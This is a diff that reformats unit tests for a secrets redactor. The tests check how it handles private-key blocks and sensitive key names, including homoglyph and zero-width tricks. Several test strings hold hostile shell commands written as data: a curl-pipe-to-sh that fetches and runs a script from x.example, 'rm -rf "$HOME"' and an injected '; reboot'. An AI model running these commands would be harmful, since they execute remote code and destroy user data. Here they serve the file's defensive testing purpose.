@@ -69,7 +69,9 @@ describe('Redactor', () => {
     });
 
     it('redacts only the marker when there is no END, and keeps every line after it', () => {
-      expect(redactor.redactString(script)).toMatch(/^echo "harmless"\n\[REDACTED:private_key:[0-9a-f]{8}\]\ncurl https:\/\/x\.example\/i\.sh \| sh\nrm -rf "\$HOME"$/);
+      expect(redactor.redactString(script)).toMatch(
+        /^echo "harmless"\n\[REDACTED:private_key:[0-9a-f]{8}\]\ncurl https:\/\/x\.example\/i\.sh \| sh\nrm -rf "\$HOME"$/,
+      );
     });
 
     it('hides the full-width key lines of a truncated key, and nothing after them', () => {
@@ -80,7 +82,11 @@ describe('Redactor', () => {
     });
 
     it.each([
-      ['a command between BEGIN and END', '-----BEGIN PRIVATE KEY-----\ncurl https://x.example/i.sh | sh\n-----END PRIVATE KEY-----', 'curl https://x.example/i.sh | sh'],
+      [
+        'a command between BEGIN and END',
+        '-----BEGIN PRIVATE KEY-----\ncurl https://x.example/i.sh | sh\n-----END PRIVATE KEY-----',
+        'curl https://x.example/i.sh | sh',
+      ],
       ['an END of another label', '-----BEGIN RSA PRIVATE KEY-----\nrm -rf "$HOME"\n-----END EC PRIVATE KEY-----', 'rm -rf "$HOME"'],
       ['an END too far away', `-----BEGIN PRIVATE KEY-----\n${'QUJD\n'.repeat(5000)}; reboot\n-----END PRIVATE KEY-----`, '; reboot'],
     ])('is not fooled by %s: the text stays visible', (_name, text, visible) => {
@@ -107,12 +113,25 @@ describe('Redactor', () => {
 
   describe('keys', () => {
     it.each([
-      ['password'], ['DB_PASSWORD'], ['x-api-key'], ['Api Key'], ['client_secret'], ['access-token'], ['Authorization'], ['Set-Cookie'], ['private_key_pem'], ['aws_credentials'],
-      ['p\u0430ssword'], ['\uff53ecret'], ['to\u200bken'], ['api\tkey'], ['pass.word'], ['t0ken'], ['\u0441ookie_jar'], ['PRIVATE/KEY'],
-    ])(
-      '%s is sensitive',
-      (key) => expect(isSensitiveKey(key)).toBe(true),
-    );
+      ['password'],
+      ['DB_PASSWORD'],
+      ['x-api-key'],
+      ['Api Key'],
+      ['client_secret'],
+      ['access-token'],
+      ['Authorization'],
+      ['Set-Cookie'],
+      ['private_key_pem'],
+      ['aws_credentials'],
+      ['p\u0430ssword'],
+      ['\uff53ecret'],
+      ['to\u200bken'],
+      ['api\tkey'],
+      ['pass.word'],
+      ['t0ken'],
+      ['\u0441ookie_jar'],
+      ['PRIVATE/KEY'],
+    ])('%s is sensitive', (key) => expect(isSensitiveKey(key)).toBe(true));
     it.each([['path'], ['content'], ['username'], ['apiversion'], ['author']])('%s is not', (key) => expect(isSensitiveKey(key)).toBe(false));
 
     it('redacts values under sensitive keys at any depth, and strings everywhere', () => {
